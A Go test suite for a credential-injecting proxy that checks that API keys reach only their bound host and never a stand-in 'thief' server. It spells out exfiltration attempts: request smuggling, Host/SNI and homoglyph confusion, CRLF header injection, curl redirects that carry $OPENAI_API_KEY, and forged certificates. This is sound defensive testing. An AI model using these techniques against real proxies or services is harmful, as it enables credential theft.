package main

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sluice-proxy/sluice/pool"
)

// What the pools of the exfiltration tests hold. Their agents hold placeholders.
const exfilGemini, exfilIDN, exfilOther = "AIza-gemini-57721566", "idn-16180339887", "other-27182845904"

var exfilSecrets = []string{openaiFirst, openaiSecond, anthropicFirst, anthropicSecond, exfilGemini, exfilIDN, exfilOther}

const (
	ownAddr   = "10.77.0.11" // of the bound hosts' origin, and of a host's that is not bound
	thiefAddr = "10.77.0.12" // of a server that the agent is in league with
	openaiAPI = "api.openai.com"
)

// perhaps is a request of which it is open whether it is carried, once at most, and when:
// it may be answered before the origin has it. So it is counted when all has come.
const perhaps = -1

// burglary is an agent that tries to have a credential sent where it does not belong: a
// daemon, the bound hosts' origin, a thief, and a client that does what it is told.
type burglary struct {
	*house
	root       *issuer
	own, thief *witness
	outer      []byte // ECH of the thief's, with a name outside that is not bound
	ask        func(line string) string
	carried    int // secrets that went to the bound hosts' origin, as they should
}

func newBurglary(t *testing.T) *burglary {
	t.Helper()
	b := &burglary{house: newHouse(t, nil), root: newIssuer(t)}
	for _, addr := range []string{ownAddr, thiefAddr} {
		if err := ip("-n", filepath.Base(b.pair.Server), "addr", "add", addr+"/24", "dev", "eth0"); err != nil {
			t.Fatal(err)
		}
	}
	b.write("upstream.pem", b.root.pem())
	b.daemon.kill()
	b.start()
	b.sluice(exfilGemini, "cred", "add", "g1")
	b.sluice("", "pool", "create", "gemini", "--members", "g1", "--provider", "gemini")
	b.sluice(exfilIDN, "cred", "add", "i1")
	b.sluice("", "pool", "create", "idn", "--members", "i1", "--host", "bücher.example", "--header", "X-Key: {token}")

	names := []string{"xn--bcher-kva.example", "unbound.example", "*.unbound.example"}
	hosts := "127.0.0.1 localhost\n" + ownAddr + " xn--bcher-kva.example"
	for _, p := range pool.Providers() {
		names = append(names, p.Hosts...)
		hosts += " " + strings.Join(p.Hosts, " ")
	}
	b.write("hosts", hosts+"\n"+thiefAddr+" unbound.example thief.example\n")
	b.own = newWitness(t, b.pair.Server, ownAddr, b.root.server(t, x509.Certificate{}, names...), nil, 443, 8443, 80)
	key, list := newECH(t, "unbound.example")
	b.outer = list
	b.thief = newWitness(t, b.pair.Server, thiefAddr, newIssuer(t).server(t, x509.Certificate{}, names...), []tls.EncryptedClientHelloKey{key}, 443, 8443, 80)

	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	client := filepath.Join(b.dir, "exfil-client")
	if err := os.Symlink(self, client); err != nil {
		t.Fatal(err)
	}
	b.ask, _ = b.converse("exec " + client)
	return b
}

// try makes a call and holds the origins' logs against it: carried requests with a secret
// of these credentials came where they belong, nothing else did anywhere.
func (b *burglary) try(t *testing.T, c exfilCall, want string, carried int, of ...string) {
	t.Helper()
	defer b.in(t)()
	if c.To == "" {
		c.To = ownAddr + ":443"
	}
	line, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	said := b.ask(string(line))
	var a exfilAnswer
	if err := json.Unmarshal([]byte(said), &a); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	if got := strings.Join(a.Statuses, " "); !slices.Contains(strings.Split(want, "|"), got) {
		t.Errorf("answered %q, want %q: %s %s", got, want, a.Err, a.Text)
	}
	if carried == perhaps {
		if found := secretsIn(said); len(found) > 0 {
			t.Errorf("the agent has %q: %s", found, said)
		}
		return
	}
	b.hold(t, said, carried, of...)
}

// hold compares what arrived since the last time.
func (b *burglary) hold(t *testing.T, said string, carried int, of ...string) {
	t.Helper()
	if len(of) == 0 {
		of = []string{openaiFirst, openaiSecond}
	}
	if found := secretsIn(said); len(found) > 0 {
		t.Errorf("the agent has %q: %s", found, said)
	}
	if found := secretsIn(b.thief.text()); len(found) > 0 {
		t.Fatalf("the thief has %q", found)
	}
	found := secretsIn(b.own.text())
	if carried == perhaps {
		carried = min(1, len(found)-b.carried)
	}
	if len(found) != b.carried+carried {
		t.Errorf("the bound host got %d secrets, want %d", len(found)-b.carried, carried)
	}
	for _, text := range b.own.texts() {
		for _, secret := range secretsIn(text) {
			if carried > 0 && len(found) == carried && !slices.Contains(of, secret) {
				t.Errorf("the bound host got another pool's secret")
			}
		}
	}
	b.carried = len(found)
}

// get is a request's head.
func get(host, path string, fields ...string) string {
	return strings.Join(append([]string{"GET " + path + " HTTP/1.1", "Host: " + host, "Authorization: Bearer $KEY"}, fields...), "\r\n") + "\r\n\r\n"
}

// post is a request with a body.
func post(host, path, body string, fields ...string) string {
	return strings.Replace(get(host, path, append(fields, fmt.Sprintf("Content-Length: %d", len(body)))...), "GET ", "POST ", 1) + body
}

// get2 are a request's fields in HTTP/2, with more before and behind.
func get2(host, path string, more ...[2]string) [][2]string {
	return append([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", path}, {"authorization", "Bearer $KEY"}}, more...)
}

func h1(text ...string) exfilCall {
	return exfilCall{Name: openaiAPI, ALPN: "http/1.1", Send: text}
}

func h2(streams ...[][2]string) exfilCall {
	return exfilCall{Name: openaiAPI, ALPN: "h2", Streams: streams}
}

// with changes a call.
func (c exfilCall) with(change func(*exfilCall)) exfilCall {
	change(&c)
	return c
}

// answers waits for more than one.
func (c exfilCall) answers(n int) exfilCall { c.Answers = n; return c }

// both makes a call with HTTP/1.1 and with HTTP/2 of a Host and a server name.
func both(name, host string) []exfilCall {
	return []exfilCall{
		h1(get(host, "/")).with(func(c *exfilCall) { c.Name = name }),
		h2(get2(host, "/")).with(func(c *exfilCall) { c.Name = name }),
	}
}

// TestExfiltration: a bound credential goes to its bound host only, over TLS that was
// verified, whatever an agent sends. The origins' logs say so: that of the bound hosts, and
// that of a thief's server, write down every byte.
func TestExfiltration(t *testing.T) {
	t.Parallel()
	b := newBurglary(t)
	const claudeAPI, geminiAPI, unbound, idn = "api.anthropic.com", "generativelanguage.googleapis.com", "unbound.example", "xn--bcher-kva.example"
	second := get(unbound, "/stolen")
	_, inner := newECH(t, openaiAPI) // for which nobody has the key
	toThief := func(c *exfilCall) { c.To = thiefAddr + ":443" }
	named := func(name string) func(*exfilCall) { return func(c *exfilCall) { c.Name = name } }
	again := func(c *exfilCall) { c.Resume = true }
	over := func(name string) func(*exfilCall) { return func(c *exfilCall) { c.Name, c.OpenSSL = name, true } }
	plain := func(to string) func(*exfilCall) {
		return func(c *exfilCall) { c.To, c.Plain, c.ALPN, c.Name = to, true, "", "" }
	}
	for _, c := range []struct {
		name    string
		calls   []exfilCall
		want    string // statuses, "|" between those that are as good
		carried int
		of      []string
	}{
		// Names that agree, written in several ways: the host's own.
		{name: "its own", calls: both(openaiAPI, openaiAPI), want: "200", carried: 1},
		{name: "Host with port", calls: both(openaiAPI, openaiAPI+":443"), want: "200", carried: 1},
		{name: "Host with a trailing dot", calls: both(openaiAPI, openaiAPI+"."), want: "200", carried: 1},
		{name: "Host in mixed case", calls: both("API.openai.COM", "api.OpenAI.com"), want: "200", carried: 1},
		{name: "punycode", calls: both(idn, idn), want: "200", carried: 1, of: []string{exfilIDN}},
		{name: "punycode in mixed case", calls: both("XN--bcher-KVA.example", idn), want: "200", carried: 1, of: []string{exfilIDN}},
		{name: "punycode against Unicode", calls: both(idn, "bücher.example"), want: "421|400"},
		{name: "punycode of a letter that looks the same", calls: both("xn--pi-7kc.openai.com", openaiAPI), want: "200"},

		// Names that do not.
		{name: "server name and Host differ, both bound", calls: both(openaiAPI, claudeAPI), want: "421"},
		{name: "server name and Host differ, not bound", calls: both(openaiAPI, unbound), want: "421"},
		{name: "server name not bound, Host is", calls: both(unbound, openaiAPI), want: "200"},
		{name: "server name not bound, the thief's", calls: []exfilCall{h1(get(openaiAPI, "/")).with(named(unbound)).with(toThief), h2(get2(openaiAPI, "/")).with(named(unbound)).with(toThief)}, want: "200"},
		{name: "server name below the bound one", calls: both("x."+openaiAPI, openaiAPI), want: "200"},
		{name: "no server name", calls: both("", openaiAPI), want: "200"},
		{name: "no server name, the thief's", calls: []exfilCall{h1(get(openaiAPI, "/")).with(named("")).with(toThief)}, want: "200"},
		{name: "server name is an address", calls: []exfilCall{h1(get(openaiAPI, "/")).with(over(ownAddr)), h1(get(openaiAPI, "/")).with(over("[::ffff:10.77.0.11]"))}, want: "200|closed"},
		// RFC 6066 section 3 has no dot there, and the handshake ends by that.
		{name: "server name with a trailing dot", calls: []exfilCall{h1(get(openaiAPI, "/")).with(over(openaiAPI + ".")), h1(get(unbound, "/")).with(over("API.openai.com.")), h2(get2(openaiAPI, "/")).with(over(openaiAPI + ".")).with(toThief)}, want: "closed"},
		{name: "Host with another port", calls: both(openaiAPI, openaiAPI+":8443"), want: "421"},
		{name: "Host with a port that is none", calls: both(openaiAPI, openaiAPI+":443:443"), want: "421|400"},
		{name: "Host with user information", calls: append(both(openaiAPI, "a@"+openaiAPI), both(openaiAPI, openaiAPI+"@"+unbound)...), want: "421|400|reset"},
		{name: "Host is an address", calls: append(both(openaiAPI, ownAddr), both(openaiAPI, "[::ffff:10.77.0.11]")...), want: "421"},
		{name: "Host is not ASCII", calls: append(both(openaiAPI, "аpi.openai.com"), both(openaiAPI, "ａpi.openai.com")...), want: "421|400"},
		{name: "Host is empty", calls: both(openaiAPI, ""), want: "421|400|reset"},
		{name: "Host is very long", calls: append(both(openaiAPI, strings.Repeat("a.", 400)+unbound), both(openaiAPI, openaiAPI+strings.Repeat(".", 100_000))...), want: "421|431|400"},
		{name: "Host with a list", calls: both(openaiAPI, openaiAPI+", "+unbound), want: "421|400|reset"},
		{name: "Host below a path", calls: both(openaiAPI, openaiAPI+"/@"+unbound), want: "421|400|reset"},
		{name: "target with user information", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/"), "GET /", "GET https://"+openaiAPI+"@"+unbound+"/", 1)), h1(strings.Replace(get(openaiAPI, "/"), "GET /", "GET https://a:b@"+openaiAPI+"/", 1))}, want: "400"},
		{name: "absolute target, another host", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/"), "GET /", "GET https://"+unbound+"/", 1))}, want: "421"},
		{name: "absolute target, Host is another", calls: []exfilCall{h1(strings.Replace(get(unbound, "/"), "GET /", "GET https://"+openaiAPI+"/", 1))}, want: "421"},
		{name: "absolute target, the same host", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/"), "GET /", "GET https://"+openaiAPI+"/x", 1))}, want: "200", carried: 1},
		{name: "absolute target without TLS", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/"), "GET /", "GET http://"+openaiAPI+"/", 1))}, want: "400"},
		{name: "path that begins like a host", calls: append(both(openaiAPI, openaiAPI), h1(get(openaiAPI, "//"+unbound+"/")), h2(get2(openaiAPI, "//"+unbound+"/"))), want: "200", carried: 1},
		{name: "path of another scheme in HTTP/2", calls: []exfilCall{h2(get2(openaiAPI, "https://"+unbound+"/")), h2(get2(openaiAPI, "@"+unbound))}, want: "400|reset"},
		{name: "two Host fields", calls: []exfilCall{h1(get(openaiAPI, "/", "Host: "+unbound)), h1(get(unbound, "/", "Host: "+openaiAPI)), h1(get(openaiAPI, "/", "host:"+openaiAPI))}, want: "400"},
		{name: ":authority against Host", calls: []exfilCall{h2(get2(openaiAPI, "/", [2]string{"host", unbound})), h2(get2(unbound, "/", [2]string{"host", openaiAPI}))}, want: "421|400|reset"},
		{name: "two of :authority", calls: []exfilCall{h2(append([][2]string{{":authority", unbound}}, get2(openaiAPI, "/")...)), h2(append([][2]string{{":authority", openaiAPI}}, get2(unbound, "/")...))}, want: "400|reset|closed"},
		{name: "pseudo-fields in another order", calls: []exfilCall{h2([][2]string{{":path", "/"}, {":authority", unbound}, {":scheme", "https"}, {":method", "GET"}})}, want: "421"},
		{name: ":authority behind the fields", calls: []exfilCall{h2([][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", "/"}, {"host", openaiAPI}, {":authority", unbound}})}, want: "400|reset|closed"},
		{name: "two of :path", calls: []exfilCall{h2(get2(openaiAPI, "/", [2]string{":path", "/x"}))}, want: "400|reset|closed"},
		{name: "no :authority", calls: []exfilCall{h2([][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", "/"}, {"host", unbound}})}, want: "421|400|reset"},
		{name: "one connection for several hosts", calls: []exfilCall{h2(get2(openaiAPI, "/"), get2(claudeAPI, "/"), get2(unbound, "/"))}, want: "200 421 421", carried: 1},
		{name: "pipelined, the second names another host", calls: []exfilCall{h1(get(openaiAPI, "/") + get(claudeAPI, "/") + second).answers(2)}, want: "200 421", carried: 1},

		// Messages that two readers may understand differently.
		{name: "both lengths", calls: []exfilCall{h1(post(openaiAPI, "/", "0\r\n\r\n"+second, "Transfer-Encoding: chunked")), h1(post(openaiAPI, "/", "0\r\n\r\n"+second, "Transfer-Encoding: xchunked"))}, want: "400"},
		{name: "two lengths", calls: []exfilCall{h1(post(openaiAPI, "/", second, "Content-Length: 0"))}, want: "400"},
		{name: "two codings", calls: []exfilCall{h1(get(openaiAPI, "/", "Transfer-Encoding: chunked", "Transfer-Encoding: identity") + "0\r\n\r\n" + second)}, want: "400"},
		{name: "coding with a space", calls: []exfilCall{h1(get(openaiAPI, "/", "Transfer-Encoding : chunked", "Content-Length: 5") + "0\r\n\r\n" + second), h1(get(openaiAPI, "/", "Transfer-Encoding: \x0bchunked") + "0\r\n\r\n")}, want: "400"},
		{name: "a request in a body", calls: []exfilCall{h1(post(openaiAPI, "/", second)), h2(append(get2(openaiAPI, "/"), [2]string{"", second}))}, want: "200", carried: 1},
		{name: "a request behind chunks", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/", "Transfer-Encoding: chunked"), "GET", "POST", 1) + "0\r\n\r\n" + second).answers(2)}, want: "200 421", carried: 1},
		{name: "trailers that name a host", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/", "Transfer-Encoding: chunked"), "GET", "POST", 1) + "0\r\nHost: " + unbound + "\r\n\r\n")}, want: "400"},
		{name: "coding in HTTP/2", calls: []exfilCall{h2(get2(openaiAPI, "/", [2]string{"transfer-encoding", "chunked"}, [2]string{"", "0\r\n\r\n" + second}))}, want: "400|reset"},
		{name: "line breaks in HTTP/2", calls: []exfilCall{h2(get2(openaiAPI, "/", [2]string{"x", "y\r\nHost: " + unbound})), h2(get2(openaiAPI, "/\r\nHost: "+unbound)), h2(get2(openaiAPI, "/", [2]string{"x\r\nhost", unbound}))}, want: "400|reset"},
		{name: "a folded line", calls: []exfilCall{h1(get(openaiAPI, "/", "X: y", " Host: "+unbound)), h1("GET / HTTP/1.1\r\nHost: " + openaiAPI + "\r\n\t." + unbound + "\r\n\r\n")}, want: "400"},
		{name: "names with white space", calls: []exfilCall{h1(get(openaiAPI, "/", "X-Api-Key : agents-own")), h1(get(openaiAPI, "/", "Authorization\t: agents-own")), h1(get(openaiAPI, "/", "\x00authorization: agents-own"))}, want: "400"},
		{name: "a bare line feed", calls: []exfilCall{h1(get(openaiAPI, "/", "X: y\nHost: "+unbound))}, want: "400"},
		{name: "Expect", calls: []exfilCall{h1(post(openaiAPI, "/", second, "Expect: 100-continue"), "").answers(2)}, want: "100 200", carried: 1},
		{name: "Expect, and another host behind it", calls: []exfilCall{h1(post(unbound, "/", second, "Expect: 100-continue"))}, want: "421"},
		{name: "an upgrade", calls: []exfilCall{h1(get(openaiAPI, "/upgrade", "Connection: upgrade", "Upgrade: websocket") + second)}, want: "101", carried: 1},
		{name: "an upgrade to HTTP/2", calls: []exfilCall{h1(get(openaiAPI, "/", "Connection: upgrade, http2-settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"))}, want: "200", carried: 1},
		{name: "CONNECT", calls: []exfilCall{
			h1("CONNECT " + unbound + ":443 HTTP/1.1\r\nHost: " + openaiAPI + "\r\n\r\n"), h1("CONNECT " + openaiAPI + ":443 HTTP/1.1\r\nHost: " + openaiAPI + "\r\n\r\n"),
			h2([][2]string{{":method", "CONNECT"}, {":authority", openaiAPI}}), h2([][2]string{{":method", "CONNECT"}, {":authority", unbound + ":443"}}),
			h2([][2]string{{":method", "CONNECT"}, {":protocol", "websocket"}, {":scheme", "https"}, {":path", "/"}, {":authority", openaiAPI}}),
		}, want: "501|421|400|reset"},
		{name: "TRACE", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/"), "GET", "TRACE", 1)), h2([][2]string{{":method", "TRACE"}, {":scheme", "https"}, {":authority", openaiAPI}, {":path", "/"}})}, want: "501"},
		{name: "HTTP/0.9", calls: []exfilCall{h1("GET /\r\n\r\n")}, want: "400"},
		{name: "HTTP/2 where HTTP/1.1 was agreed on", calls: []exfilCall{h1("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")}, want: "505|400"},

		// Where the connection goes.
		{name: "the thief's address for a bound name", calls: []exfilCall{h1(get(openaiAPI, "/")).with(toThief), h2(get2(openaiAPI, "/")).with(toThief), h1(get(openaiAPI, "/")).with(toThief).with(func(c *exfilCall) { c.TLS12 = true })}, want: "502"},
		{name: "a port that is not bound", calls: []exfilCall{h1(get(openaiAPI, "/")).with(func(c *exfilCall) { c.To = ownAddr + ":8443" }), h2(get2(openaiAPI, "/")).with(func(c *exfilCall) { c.To = thiefAddr + ":8443" }), h1(get(openaiAPI, "/")).with(plain(ownAddr + ":80")), h1(get(openaiAPI, "/")).with(plain(thiefAddr + ":80"))}, want: "200"},
		{name: "no TLS on a bound port", calls: []exfilCall{h1(get(openaiAPI, "/")).with(plain(ownAddr + ":443")), h1(get("API.openai.com.:443", "/")).with(plain(thiefAddr + ":443")), h1("CONNECT " + openaiAPI + ":443 HTTP/1.1\r\nHost: x\r\n\r\n").with(plain(thiefAddr + ":443"))}, want: "421"},
		{name: "no TLS, names that disagree", calls: []exfilCall{h1(strings.Replace(get(openaiAPI, "/"), "GET /", "GET http://"+unbound+"/", 1)).with(plain(thiefAddr + ":443")), h1(get(openaiAPI, "/", "Host: "+unbound)).with(plain(thiefAddr + ":443")), h1("GET /\r\n").with(plain(thiefAddr + ":443")), h1("get / HTTP/1.1\r\nHost: " + openaiAPI + "\r\n\r\n").with(plain(thiefAddr + ":443"))}, want: "400|closed"},
		{name: "HTTP/2 without TLS", calls: []exfilCall{h2(get2(openaiAPI, "/")).with(plain(ownAddr + ":443")), h2(get2(openaiAPI, "/")).with(plain(thiefAddr + ":443"))}, want: "closed"},
		{name: "TLS 1.2", calls: []exfilCall{h1(get(openaiAPI, "/")).with(func(c *exfilCall) { c.TLS12 = true }), h2(get2(openaiAPI, "/")).with(func(c *exfilCall) { c.TLS12 = true })}, want: "200", carried: 1},
		{name: "TLS 1.2, another host", calls: []exfilCall{h1(get(claudeAPI, "/")).with(func(c *exfilCall) { c.TLS12 = true })}, want: "421"},
		{name: "a session", calls: []exfilCall{h1(get(openaiAPI, "/")).with(again)}, want: "200", carried: 1},
		{name: "a session that is resumed", calls: []exfilCall{h1(get(openaiAPI, "/")).with(again)}, want: "resumed 200", carried: 1},
		{name: "a session of another host", calls: []exfilCall{h1(get(openaiAPI, "/")).with(again).with(named(claudeAPI))}, want: "resumed 421"},
		{name: "a session of a bound host at one that is not", calls: []exfilCall{h1(get(openaiAPI, "/")).with(again).with(named(unbound)).with(toThief)}, want: "200"},
		{name: "a session of a host that is not bound at one that is", calls: []exfilCall{h1(get(unbound, "/")).with(again)}, want: "421"},
		{name: "encrypted hello, the bound name inside", calls: []exfilCall{h1(get(openaiAPI, "/")).with(func(c *exfilCall) { c.ECH = b.outer }).with(toThief)}, want: "200"},
		{name: "encrypted hello, the bound name outside", calls: []exfilCall{h1(get(openaiAPI, "/")).with(func(c *exfilCall) { c.ECH, c.Name = inner, unbound }), h1(get(unbound, "/")).with(func(c *exfilCall) { c.ECH, c.Name = inner, unbound }).with(toThief)}, want: "closed"},

		// What goes along.
		{name: "names that differ in an underscore", calls: []exfilCall{
			h1(get(claudeAPI, "/", "X_Api_Key: agents-own", "x-api_Key: agents-own")).with(named(claudeAPI)),
			h2(get2(claudeAPI, "/", [2]string{"x_api_key", "agents-own"})).with(named(claudeAPI)),
		}, want: "200", carried: 1, of: []string{anthropicFirst}},
		{name: "a key in the query and the referrer", calls: []exfilCall{
			h1(get(geminiAPI, "/v1beta/models?key=$KEY&%6bey=$KEY&a=b", "Referer: https://"+geminiAPI+"/?key=$KEY")).with(named(geminiAPI)),
			h2(get2(geminiAPI, "/v1beta/models?a=b&key=$KEY", [2]string{"referer", "https://" + geminiAPI + "/?key=$KEY"})).with(named(geminiAPI)),
		}, want: "200", carried: 1, of: []string{exfilGemini}},
		{name: "what the host repeats", calls: []exfilCall{h1(get(openaiAPI, "/echo")), h2(get2(openaiAPI, "/echo"))}, want: "200", carried: 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			for i, call := range c.calls {
				t.Run(fmt.Sprint(call.proto(), " ", i+1), func(t *testing.T) { b.try(t, call, c.want, c.carried, c.of...) })
			}
		})
	}
	if text := b.own.text(); strings.Contains(text, "agents-own") {
		t.Error("a credential of the agent's went along with the pool's")
	}
	t.Run("redirect", func(t *testing.T) { b.redirected(t) })
	t.Run("certificates", func(t *testing.T) { b.certificates(t) })
	t.Run("early data", func(t *testing.T) { b.earlyData(t) })
	t.Run("idle connections", func(t *testing.T) { b.twoPools(t) })
	t.Run("length against the data in HTTP/2", func(t *testing.T) {
		b.try(t, h2(get2(openaiAPI, "/", [2]string{"content-length", "3"}, [2]string{"", second})), "200|400|reset|502", perhaps)
	})
	b.own.stop() // what was still on its way has come
	b.thief.stop()
	b.hold(t, b.daemon.log.String(), perhaps)
}

// proto is what it speaks.
func (c exfilCall) proto() string {
	switch {
	case len(c.Streams) > 0:
		return "HTTP/2"
	default:
		return "HTTP/1"
	}
}

// redirected has the bound host send the agent to another one, by clients that follow and
// take along what they have.
func (b *burglary) redirected(t *testing.T) {
	needs(t, "curl")
	for _, version := range []string{"--http1.1", "--http2"} {
		t.Run(version, func(t *testing.T) {
			defer b.in(t)()
			before := b.thief.requests()
			said := b.output("sh", "-c", `exec curl -sSik -L --location-trusted -e ';auto' --max-time 20 `+version+
				` -H "Authorization: Bearer $OPENAI_API_KEY" -d x "https://api.openai.com/redirect?key=$OPENAI_API_KEY"`)
			if !strings.Contains(said, "unbound.example was here") || b.thief.requests() != before+1 {
				t.Errorf("was not followed: %s", said)
			}
			b.hold(t, said, 1)
		})
	}
}

// certificates has the thief show those for the bound name that must not be believed.
func (b *burglary) certificates(t *testing.T) {
	ago, days := time.Now().Add(-48*time.Hour), 24*time.Hour
	elsewhere := b.root.under(t, x509.Certificate{PermittedDNSDomains: []string{"unbound.example"}, PermittedDNSDomainsCritical: true})
	excluded := b.root.under(t, x509.Certificate{ExcludedDNSDomains: []string{"openai.com"}, PermittedDNSDomainsCritical: true})
	purpose := b.root.under(t, x509.Certificate{ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}})
	leaf := b.root.issue(t, x509.Certificate{DNSNames: []string{openaiAPI}, KeyUsage: x509.KeyUsageDigitalSignature})
	short := b.root.under(t, x509.Certificate{}).server(t, x509.Certificate{}, openaiAPI)
	for _, c := range []struct {
		name  string
		shown *tls.Certificate
	}{
		{"self-signed", (*issuer)(nil).server(t, x509.Certificate{}, openaiAPI)},
		{"of an unknown authority", newIssuer(t).server(t, x509.Certificate{}, openaiAPI)},
		{"expired", b.root.server(t, x509.Certificate{NotBefore: ago, NotAfter: ago.Add(days)}, openaiAPI)},
		{"not yet valid", b.root.server(t, x509.Certificate{NotBefore: time.Now().Add(days), NotAfter: time.Now().Add(2 * days)}, openaiAPI)},
		{"of another name", b.root.server(t, x509.Certificate{}, "unbound.example", "api.openai.com.unbound.example")},
		{"of a name below", b.root.server(t, x509.Certificate{}, "*.api.openai.com")},
		{"of no name", b.root.server(t, x509.Certificate{})},
		{"for clients", b.root.server(t, x509.Certificate{ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}, openaiAPI)},
		{"against a constraint on what is permitted", elsewhere.server(t, x509.Certificate{}, openaiAPI)},
		{"against a constraint on what is excluded", excluded.server(t, x509.Certificate{}, openaiAPI)},
		{"against a constraint on purpose", purpose.server(t, x509.Certificate{}, openaiAPI)},
		{"signed by who may not", leaf.server(t, x509.Certificate{}, openaiAPI)},
		{"with its intermediate missing", &tls.Certificate{Certificate: short.Certificate[:1], PrivateKey: short.PrivateKey}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b.thief.show(c.shown)
			for _, call := range []exfilCall{h1(get(openaiAPI, "/")), h2(get2(openaiAPI, "/"))} {
				call.To = thiefAddr + ":443"
				t.Run(call.proto(), func(t *testing.T) { b.try(t, call, "502", 0) })
			}
		})
	}
}

// earlyData sends a request within the first flight, by a session that the agent had with
// the thief before it was attached.
func (b *burglary) earlyData(t *testing.T) {
	needs(t, "openssl")
	b.write("early", strings.ReplaceAll(get(openaiAPI, "/"), "$KEY", "none"))
	b.write("cert.pem", "")
	if out, err := exec.Command("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", filepath.Join(b.dir, "key.pem"),
		"-out", filepath.Join(b.dir, "cert.pem"), "-subj", "/CN=api.openai.com", "-days", "2").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	server := exec.Command("nsenter", "--net="+b.pair.Server, "openssl", "s_server", "-accept", "10.77.0.1:8444", "-cert", "cert.pem", "-key", "key.pem", "-early_data", "-quiet")
	server.Dir = b.dir
	if err := server.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = server.Process.Kill(); _ = server.Wait() }()
	b.until("a session", func() bool {
		_ = b.agent(nil, "sh", "-c", "(printf 'GET / HTTP/1.0\\r\\n\\r\\n'; sleep 1) | timeout 5 openssl s_client -connect 10.77.0.1:8444 -servername "+openaiAPI+" -sess_out sess").Run()
		out, _ := exec.Command("openssl", "sess_id", "-in", filepath.Join(b.dir, "sess"), "-noout", "-text").CombinedOutput()
		return strings.Contains(string(out), "Max Early Data: 16384")
	})
	defer b.in(t)()
	for _, to := range []string{ownAddr, thiefAddr} {
		said := b.output("sh", "-c", "sleep 1 | timeout 5 openssl s_client -connect "+to+":443 -servername "+openaiAPI+" -sess_in sess -early_data early 2>&1; true")
		if !strings.Contains(said, "CONNECTED") || strings.Contains(said, "Early data was accepted") {
			t.Errorf("%s", said)
		}
		b.hold(t, said, 0)
	}
}

// twoPools serve the same host for two agents, one after the other: none gets a
// connection on which the other's credential went.
func (b *burglary) twoPools(t *testing.T) {
	needs(t, "curl")
	b.sluice(exfilOther, "cred", "add", "o1")
	b.sluice("", "pool", "create", "other", "--members", "o1", "--provider", "openai")
	for _, version := range []string{"--http1.1", "--http2"} {
		for _, name := range []string{"openai", "other", "openai"} {
			cmd := b.agent(nil, b.path, "run", "--user", "root", "--pool", name, "--", "curl", "-sS", "--max-time", "20", version, "https://api.openai.com/")
			if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "was here") {
				t.Fatalf("%s: %v: %s", name, err, out)
			}
		}
	}
	mixed, others := 0, 0
	for _, text := range b.own.texts() {
		found := slices.Compact(slices.Sorted(slices.Values(secretsIn(text))))
		if slices.Contains(found, exfilOther) {
			others++
			if len(found) > 1 {
				mixed++
			}
		}
	}
	if others == 0 || mixed > 0 {
		t.Errorf("of %d connections with the other pool's secret %d had one of the first's, too", others, mixed)
	}
	b.hold(t, "", 6, openaiFirst, openaiSecond, exfilOther)
}
